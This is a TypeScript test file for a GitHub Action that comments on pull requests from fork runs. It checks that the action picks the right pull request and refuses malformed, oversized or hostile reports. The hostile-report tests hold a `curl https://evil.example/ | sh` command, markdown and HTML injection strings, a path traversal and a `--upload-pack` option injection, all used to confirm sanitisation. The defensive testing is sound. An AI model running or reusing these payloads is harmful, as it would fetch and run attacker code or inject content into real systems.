import { truncateSync, writeFileSync } from 'node:fs';
import { join } from 'node:path';
import { micromark } from 'micromark';
import { gfm, gfmHtml } from 'micromark-extension-gfm';
import { describe, expect, test } from 'vitest';
import type { ReportFile } from '../../src/report/received.gen.js';
import { project } from '../cli/project.ts';
import { type Comment, type FakePull, startThreads } from '../fakes/github-threads.ts';
import { builtAction, type StepOptions } from './runner.ts';

const run = builtAction();

const HEAD = 'a'.repeat(40);
const BRANCH = 'fix/a#1 & more';
const PULL: FakePull = {
  number: 7,
  state: 'open',
  from: 'mallory/shop',
  branch: BRANCH,
  sha: HEAD,
};

const FINDING: ReportFile['findings'][number] = {
  rule: 'missing',
  severity: 'error',
  name: 'NEW_KEY',
  environment: 'production',
  component: '.',
  message: 'NEW_KEY is needed here, and production does not have it',
  location: { file: 'src/new.ts', line: 1, column: 11 },
  related: [],
  fingerprint: 'f',
};

function report(more: object = {}): ReportFile {
  return {
    schemaVersion: 1,
    environments: ['production'],
    findings: [FINDING],
    suppressed: [],
    unusedSuppressions: [],
    sources: [],
    unknown: [],
    toRun: [],
    problems: [],
    counts: { error: 1, warning: 0, info: 0, suppressed: 0, variables: 1, components: 1 },
    ...more,
  };
}

const CLEAN = {
  findings: [],
  counts: { error: 0, warning: 0, info: 0, suppressed: 0, variables: 1, components: 1 },
};

/** https://docs.github.com/webhooks/webhook-events-and-payloads#workflow_run */
function payload(more: object = {}) {
  return {
    action: 'completed',
    workflow_run: {
      id: 41,
      event: 'pull_request',
      conclusion: 'failure',
      head_branch: BRANCH,
      head_sha: HEAD,
      head_repository: { full_name: 'mallory/shop' },
      pull_requests: [],
      ...more,
    },
    repository: { full_name: 'acme/shop' },
  };
}

function left(text: string): string {
  const root = project({});
  writeFileSync(join(root, 'report.json'), text);
  return root;
}

async function pass(
  workspace: string,
  { pulls = [PULL], comments = [], ...more }: Partial<StepOptions> & Shop = {},
) {
  const fake = await startThreads({ repository: 'acme/shop', number: 7, comments, pulls });
  const step = await run({
    workspace,
    event: 'workflow_run',
    payload: payload(),
    with: { report: 'report.json' },
    env: { GITHUB_API_URL: fake.url },
    ...more,
  });
  const { requests } = fake;
  await fake[Symbol.asyncDispose]();
  return { ...step, comments, requests };
}

interface Shop {
  readonly pulls?: readonly FakePull[];
  readonly comments?: Comment[];
}

describe('behind the run of a fork', () => {
  test('its report becomes the comment, which says whose report it is', async () => {
    const { code, comments } = await pass(left(JSON.stringify(report())));
    expect([code, comments.length]).toEqual([0, 1]);
    const body = comments[0]?.body ?? '';
    expect(body).toMatch(/^<!-- envparity [0-9a-f]{12} -->\n\[A run\]\(\S+\/runs\/41\) of this/);
    expect(body).toContain('passed on unchecked');
    expect(body).toContain('`NEW_KEY` is needed here');
    expect(body).toContain('`src/new.ts:1`');
  });

  test('the comment is edited in place, and folded away when all is well', async () => {
    const { comments } = await pass(left(JSON.stringify(report())));
    await pass(left(JSON.stringify(report(CLEAN))), { comments });
    expect(comments).toHaveLength(1);
    expect(comments[0]?.body).toMatch(/unchecked.*\n\n<details><summary>envparity: yes/);
    const { requests } = await pass(left(JSON.stringify(report(CLEAN))), { comments });
    expect(requests.filter(({ method }) => method === 'PATCH')).toEqual([]);
  });

  test('a report that has nothing to say makes no comment', async () => {
    const { code, comments } = await pass(left(JSON.stringify(report(CLEAN))));
    expect([code, comments]).toEqual([0, []]);
  });

  test('whoever uses several actions gets a comment for each', async () => {
    const comments: Comment[] = [];
    const inputs = { report: 'report.json', environment: 'production' };
    await pass(left(JSON.stringify(report())), { comments });
    await pass(left(JSON.stringify(report())), { comments, with: inputs });
    expect(comments).toHaveLength(2);
  });
});

describe('which pull request is meant', () => {
  test.each<[string, readonly FakePull[]]>([
    ['is closed', [{ ...PULL, state: 'closed' }]],
    ['has other commits by now', [{ ...PULL, sha: 'b'.repeat(40) }]],
    ['is of another fork of the same owner', [{ ...PULL, from: 'mallory/other' }]],
    ['has lost its fork', [{ ...PULL, from: null }]],
    ['may be one of two', [PULL, { ...PULL, number: 8 }]],
  ])('where it %s, nothing is written', async (_, pulls) => {
    const { code, comments, log } = await pass(left(JSON.stringify(report())), { pulls });
    expect([code, comments]).toEqual([0, []]);
    expect(log).toMatch(/^::notice title=envparity::No comment/m);
  });

  test('is neither what the report says nor what the payload lists', async () => {
    const others = payload({ pull_requests: [{ number: 1, head: { sha: HEAD } }] });
    const { comments, requests } = await pass(left(JSON.stringify(report())), { payload: others });
    expect(comments).toHaveLength(1);
    expect(requests.map(({ path }) => path).filter((path) => path.includes('/1/'))).toEqual([]);
  });

  test.each([
    ['a push', payload({ event: 'push' })],
    ['a fork that is gone', payload({ head_repository: null })],
    ['a commit that is an option', payload({ head_sha: '--upload-pack=x' })],
    ['nothing', {}],
  ])('a run that follows one of %s is wrong use', async (_, strange) => {
    const { code, log, requests } = await pass(left(JSON.stringify(report())), {
      payload: strange,
    });
    expect([code, requests]).toEqual([2, []]);
    expect(log).toMatch(/^::error title=envparity::this run follows none of a pull request/m);
  });
});

describe('a hostile report', () => {
  const DEEP = `${'['.repeat(200_000)}${']'.repeat(200_000)}`;

  test.each([
    ['no JSON', 'report'],
    ['nested without end', DEEP],
    ['nested within', JSON.stringify(report()).replace('"sources":[]', `"sources":[${DEEP}]`)],
    ['with a member more', JSON.stringify({ ...report(), number: 1 })],
    ['with a prototype', JSON.stringify(report()).replace('{', '{"__proto__":{"title":"x"},')],
    ['with a number for a name', JSON.stringify(report({ findings: [{ ...FINDING, name: 7 }] }))],
    ['of another version', JSON.stringify(report({ schemaVersion: 2 }))],
  ])('that is %s is refused', async (_, text) => {
    const { code, log, requests } = await pass(left(text));
    expect([code, requests]).toEqual([2, []]);
    expect(log).toMatch(/^::error title=envparity::report\.json is no report of this version/m);
  });

  test('of 60 MB is not read, nor is one that is not there', async () => {
    const root = left('');
    truncateSync(join(root, 'report.json'), 60 * 1024 * 1024);
    const large = await pass(root);
    expect([large.code, large.requests]).toEqual([2, []]);
    expect(large.log).toContain('60.0 MB');
    const absent = await pass(project({}));
    expect(absent.code).toBe(2);
    expect(absent.log).toContain('report.json could not be read (ENOENT)');
  });

  test('can neither ping, link, paste, nor pass for another comment', async () => {
    const EVIL =
      '@acme/all #1 GH-2 https://evil.example [x](https://evil.example) <img src=x> --> <!-- envparity 0123456789ab -->\n::error::x\n</details>';
    const url = 'https://evil.example/';
    const place = { source: EVIL, url };
    const evil = {
      ...FINDING,
      rule: EVIL,
      name: EVIL,
      environment: EVIL,
      component: EVIL,
      message: EVIL,
      location: { file: '../../../../../mallory/evil', line: 1, column: 1 },
      related: [{ location: place, message: EVIL }],
      remedy: { text: EVIL, command: `curl ${url} | sh`, line: { file: EVIL, text: EVIL }, url },
    };
    const change = {
      started: [{ name: EVIL, component: EVIL, need: 'required', location: evil.location }],
      stopped: [{ name: EVIL, component: EVIL, leftovers: [place] }],
      renamed: [],
      components: [EVIL],
    };
    const sources = [{ provider: EVIL, title: EVIL, asked: true, coverage: [], problems: [] }];
    const unusedSuppressions = [{ location: place, message: EVIL }];
    const hostile = report({ findings: [evil], change, sources, unusedSuppressions });
    const { code, comments, log } = await pass(left(JSON.stringify(hostile)));
    expect(code).toBe(0);
    const body = comments[0]?.body ?? '';
    const options = { extensions: [gfm()], htmlExtensions: [gfmHtml()], allowDangerousHtml: true };
    const html = micromark(body.replace(/^<!-- envparity \w+ -->\n/, ''), options);
    expect([...html.matchAll(/(?:href|src)="([^"]*)"/g)].map(([, to]) => to)).toEqual([
      'https://github.com/acme/shop/actions/runs/41',
    ]);
    const bare = html.replace(/<code>[\s\S]*?<\/code>/g, '');
    expect(bare).not.toMatch(/<img|<!--|@acme|#1\b|GH-2/);
    expect(body).not.toContain('curl');
    expect(log).not.toContain('::error');
  });

  test('of as many findings as fit is cut to what a comment takes', async () => {
    const findings = Array.from({ length: 20_000 }, (_, index) => ({
      ...FINDING,
      environment: `e${index}`,
    }));
    const { code, comments } = await pass(left(JSON.stringify(report({ findings }))));
    expect(code).toBe(0);
    expect(comments[0]?.body.length).toBeLessThanOrEqual(65_536);
    expect(comments[0]?.body).toContain('not shown** for want of room');
  });
});
